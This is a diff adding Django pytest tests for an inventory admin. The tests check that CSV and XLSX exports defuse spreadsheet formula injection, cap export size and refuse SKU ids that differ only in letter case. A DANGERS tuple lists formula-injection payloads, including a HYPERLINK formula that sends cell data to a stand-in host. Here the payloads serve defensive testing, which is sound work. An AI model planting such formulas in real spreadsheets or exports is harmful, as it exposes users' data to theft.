@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 
 import pytest
 from django.contrib.auth import get_user_model
@@ -257,3 +258,238 @@ def test_skus_import_service_is_all_or_nothing(live_db):
     assert [s.sku_id for s in made] == [f"{prefix}-1"]
     assert redis_store.live_stock(sku_id=f"{prefix}-1").available == 2
     assert InventoryLog.objects.filter(sku_id=f"{prefix}-1", operation="RESTOCK", quantity=2, actor="t").exists()
+
+
+# --- no formula leaves an export -------------------------------------------------------
+
+# One text per start a spreadsheet may evaluate (OWASP's list).
+DANGERS = ('=HYPERLINK("http://x"&A1,"open")', "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1")
+
+
+def export_rows(client: Client, url: str, fmt: str) -> list[dict]:
+    """The exported rows by column: CSV texts, or XLSX cells (value and data_type)."""
+    content = export(client, url, fmt)
+    if fmt == CSV_FORMAT:
+        return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
+    import openpyxl
+
+    rows = list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows())
+    header = [cell.value for cell in rows[0]]
+    return [dict(zip(header, row)) for row in rows[1:]]
+
+
+def text_of(cell) -> str:
+    """A cell's text; XML reads a stored CR back as LF, so compare with LF."""
+    value = cell if isinstance(cell, str) else cell.value
+    return ("" if value is None else str(value)).replace("\r", "\n")
+
+
+def assert_defused(rows: list[dict], column: str, fmt: str) -> None:
+    got = sorted(text_of(r[column]) for r in rows)
+    assert got == sorted(text_of("'" + d) for d in DANGERS), (column, got)
+    if fmt == XLSX_FORMAT:
+        assert {r[column].data_type for r in rows} == {"s"}, column  # text, no formula ("f")
+
+
+@pytest.fixture
+def hostile(live_db):
+    """Rows of every exported table whose buyer-controlled texts start with each
+    of DANGERS, and a reconciliation row with a negative drift."""
+    from django.utils import timezone
+
+    from orders.models import Order
+    from reconciliation.models import Finding, ReconciliationRun, SkuReconciliation
+
+    prefix = unique("HOST")
+    named = [skus.sku_create(sku_id=f"{prefix}-{i}", stock=10, name=d, price="9.50") for i, d in enumerate(DANGERS)]
+    sku = named[0]
+    for d in DANGERS:
+        stock_services.stock_freeze(sku_id=sku.sku_id, quantity=1, reason=d, actor="t")
+    buyer = get_user_model().objects.create(username=unique("buyer"))
+    for i, d in enumerate(DANGERS):
+        Order.objects.create(order_id=unique("o"), user=buyer, sku=sku, quantity=1, status=Order.Status.FAILED,
+                             bucket=Order.Bucket.NONE, idempotency_key=d, payment_id=f"{d}{prefix}{i}",
+                             failure_reason=d, created_at=timezone.now())
+    run = ReconciliationRun.objects.create(trigger=ReconciliationRun.Trigger.COMMAND)
+    SkuReconciliation.objects.create(run=run, sku=sku, redis_available=4, mysql_available=7, mysql_total=10,
+                                     mysql_frozen=6, mysql_locked=0, mysql_sold=0, expected_redis=7, drift=-3,
+                                     state=SkuReconciliation.State.ALERT)
+    for d in DANGERS:
+        Finding.objects.create(run=run, sku=sku, kind=Finding.Kind.DRIFT_ALERT, redis_value=-3, mysql_value=7,
+                               ids=d, detail=d)
+    return prefix, sku
+
+
+@pytest.mark.parametrize("fmt", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
+def test_no_export_carries_a_formula_and_numbers_stay_numbers(hostile, fmt):
+    prefix, sku = hostile
+    _, root = staff(None, superuser=True)
+    skus_out = export_rows(root, f"/admin/inventory/sku/export/?q={prefix}", fmt)
+    assert_defused(skus_out, "name", fmt)
+    log = [r for r in export_rows(root, f"/admin/inventory/inventorylog/export/?sku__sku_id__exact={sku.sku_id}", fmt)
+           if text_of(r["operation"]) == "FREEZE"]
+    assert_defused(log, "reason", fmt)
+    orders = export_rows(root, f"/admin/orders/order/export/?sku__sku_id__exact={sku.sku_id}", fmt)
+    for column in ("idempotency_key", "failure_reason"):
+        assert_defused(orders, column, fmt)
+    assert all(text_of(r["payment_id"]).startswith("'") for r in orders) and len(orders) == len(DANGERS)
+    findings = export_rows(root, f"/admin/reconciliation/finding/export/?q={sku.sku_id}", fmt)
+    for column in ("detail", "ids"):
+        assert_defused(findings, column, fmt)
+    [recon] = export_rows(root, f"/admin/reconciliation/skureconciliation/export/?sku__sku_id__exact={sku.sku_id}",
+                          fmt)
+    price, created = skus_out[0]["price"], skus_out[0]["created_at"]
+    if fmt == CSV_FORMAT:
+        assert (recon["drift"], recon["redis_available"], findings[0]["redis_value"]) == ("-3", "4", "-3")
+        assert price == "9.50"
+        assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", created), created
+    else:
+        for cell, value in ((recon["drift"], -3), (recon["redis_available"], 4), (findings[0]["redis_value"], -3),
+                            (price, 9.5)):
+            assert (cell.data_type, cell.value) == ("n", value)
+        assert created.data_type == "d" and created.value.year >= 2024
+
+
+def test_every_admin_export_goes_through_the_defusing_base(live_db):
+    """A new admin or resource cannot skip it: each registered export is a
+    ViewerExportMixin with ExportResource resources, and the mixin refuses any other."""
+    from django.contrib import admin
+    from django.core.exceptions import ImproperlyConfigured
+    from django.test import RequestFactory
+    from import_export import resources
+    from import_export.admin import ExportMixin
+
+    from inventory.resources import ExportResource, ViewerExportMixin
+
+    root, _ = staff(None, superuser=True)
+    request = RequestFactory().get("/")
+    request.user = root
+    exporting = [m for m in admin.site._registry.values() if isinstance(m, ExportMixin)]
+    assert len(exporting) >= 5
+    for model_admin in exporting:
+        assert isinstance(model_admin, ViewerExportMixin), model_admin
+        assert all(issubclass(c, ExportResource) for c in model_admin.get_export_resource_classes(request))
+
+    class Plain(resources.ModelResource):
+        class Meta:
+            model = Sku
+            fields = ("sku_id", "name")
+
+    class PlainAdmin(ViewerExportMixin, admin.ModelAdmin):
+        resource_classes = [Plain]
+
+    with pytest.raises(ImproperlyConfigured):
+        PlainAdmin(Sku, admin.site).get_data_for_export(request, Sku.objects.all())
+
+
+def test_an_export_beyond_the_row_cap_is_refused_with_a_message(live_db, settings):
+    prefix = unique("CAP")
+    make_skus(prefix, n=3)
+    _, ops = staff("ops")
+    settings.SECKILL_EXPORT_MAX_ROWS = 2
+    url = f"/admin/inventory/sku/export/?q={prefix}"
+    page = ops.get(url)
+    data = {"format": CSV_FORMAT, "resource": "0"}
+    data.update({name: "on" for name, field in page.context["form"].fields.items()
+                 if getattr(field, "is_selectable_field", False)})
+    refused = ops.post(url, data)
+    assert refused.status_code == 200 and "Content-Disposition" not in refused.headers
+    assert [str(m) for m in refused.context["messages"]] == [
+        "This export would hold more than 2 rows; filter or search the list to fewer rows and export again."]
+    rows = list(csv.DictReader(io.StringIO(export(ops, f"/admin/inventory/sku/export/?q={prefix}-0",
+                                                  CSV_FORMAT).decode("utf-8-sig"))))
+    assert [r["sku_id"] for r in rows] == [f"{prefix}-0"]  # a filtered export under the cap is served
+    settings.SECKILL_EXPORT_MAX_ROWS = 3
+    assert len(list(csv.DictReader(io.StringIO(export(ops, url, CSV_FORMAT).decode("utf-8-sig"))))) == 3
+
+
+# --- SKU ids that differ only in letter case ------------------------------------------
+
+def test_import_with_case_variant_ids_names_the_rows_and_creates_nothing(live_db):
+    prefix = unique("IMPCASE")
+    rows = good_rows(prefix, n=4)
+    rows[0]["sku_id"], rows[2]["sku_id"], rows[3]["sku_id"] = f"{prefix}-abc", f"{prefix}-ABC", f"{prefix}-àbc"
+    _, ops = staff("ops")
+    page = preview(ops, csv_file(rows))
+    assert page.context.get("confirm_form") is None
+    result = page.context["result"]
+    assert {row.number: set(row.field_specific_errors) for row in result.invalid_rows} == {3: {"sku_id"},
+                                                                                          4: {"sku_id"}}
+    html = page.content.decode()
+    assert f"SKU {prefix}-ABC is the same id as {prefix}-abc in row 1 of this file" in html
+    nothing_anywhere([r["sku_id"] for r in rows])
+
+
+def test_import_of_an_id_that_exists_in_another_case_is_a_row_error(live_db):
+    prefix = unique("IMPCASE2")
+    existing = skus.sku_create(sku_id=f"{prefix}-ABC", stock=1)
+    rows = good_rows(prefix, n=2)
+    rows[1]["sku_id"] = f"{prefix}-abc"
+    _, ops = staff("ops")
+    page = preview(ops, csv_file(rows))
+    assert page.status_code == 200 and page.context.get("confirm_form") is None
+    assert {row.number: set(row.field_specific_errors) for row in page.context["result"].invalid_rows} == {
+        2: {"sku_id"}}
+    assert f"same id as the existing SKU {existing.sku_id}" in page.content.decode()
+    nothing_anywhere([rows[0]["sku_id"]])
+    assert list(Sku.objects.filter(sku_id__startswith=prefix).values_list("sku_id", "total_stock")) == [
+        (existing.sku_id, 1)]
+
+
+def test_import_race_with_a_case_variant_after_the_preview_applies_nothing(live_db):
+    prefix = unique("IMPCASE3")
+    rows = good_rows(prefix, n=3)
+    _, ops = staff("ops")
+    page = preview(ops, csv_file(rows))
+    skus.sku_create(sku_id=rows[1]["sku_id"].upper(), stock=1)  # made meanwhile, in capitals
+    r = confirm(ops, page)
+    assert r.status_code == 200
+    assert [row.number for row in r.context["result"].invalid_rows] == [2]
+    nothing_anywhere([rows[0]["sku_id"], rows[2]["sku_id"]])
+
+
+def test_the_database_has_the_last_word_on_equal_ids(live_db, monkeypatch):
+    """Where the checks miss an equality MySQL's collation sees (simulated by
+    switching them off), the duplicate key refuses the file, names the row and
+    leaves nothing behind: never a 500."""
+    prefix = unique("SVCCASE")
+    monkeypatch.setattr(skus, "skus_import_errors", lambda specs: {})
+    specs = {1: skus.SkuSpec(sku_id=f"{prefix}-x", stock=1), 2: skus.SkuSpec(sku_id=f"{prefix}-abc", stock=1),
+             3: skus.SkuSpec(sku_id=f"{prefix}-ABC", stock=1)}
+    with pytest.raises(skus.SkuImportRefused) as refused:
+        skus.skus_import(specs=specs, actor="t")
+    assert list(refused.value.errors) == [3]
+    assert not Sku.objects.filter(sku_id__startswith=prefix).exists()
+    assert not InventoryLog.objects.filter(sku__sku_id__startswith=prefix).exists()
+
+
+def test_create_sku_and_the_add_form_refuse_a_case_variant_cleanly(live_db):
+    from django.core.management import CommandError, call_command
+
+    prefix = unique("CMDCASE")
+    skus.sku_create(sku_id=f"{prefix}-ABC", stock=1)
+    with pytest.raises(CommandError, match="already exists"):
+        call_command("create_sku", f"{prefix}-abc", "--stock", "1")
+    _, ops = staff("ops")
+    r = ops.post("/admin/inventory/sku/add/", {
+        "sku_id": f"{prefix}-abc", "name": "x", "price": "1.00", "per_user_limit": "1", "status": "active",
+        "initial_stock": "1", "sale_starts_at_0": "2030-01-01", "sale_starts_at_1": "10:00:00",
+        "sale_ends_at_0": "", "sale_ends_at_1": ""})
+    assert r.status_code == 200 and "sku_id" in r.context["adminform"].form.errors
+    assert list(Sku.objects.filter(sku_id__startswith=prefix).values_list("sku_id", flat=True)) == [f"{prefix}-ABC"]
+
+
+def test_a_control_character_in_a_name_does_not_fail_the_xlsx_export(live_db):
+    """openpyxl refuses control characters; one such SKU name (imports accept
+    any text) must not make the whole export fail."""
+    import openpyxl
+
+    prefix = unique("CTL")
+    [sku] = make_skus(prefix, n=1)
+    Sku.objects.filter(pk=sku.pk).update(name="bad\x01name")
+    _, client = staff("ops")
+    content = export(client, f"/admin/inventory/sku/export/?q={prefix}", XLSX_FORMAT)
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
+    values = list(sheet.iter_rows(values_only=True))
+    header = list(values[0])
+    assert values[1][header.index("name")] == "bad\ufffdname"
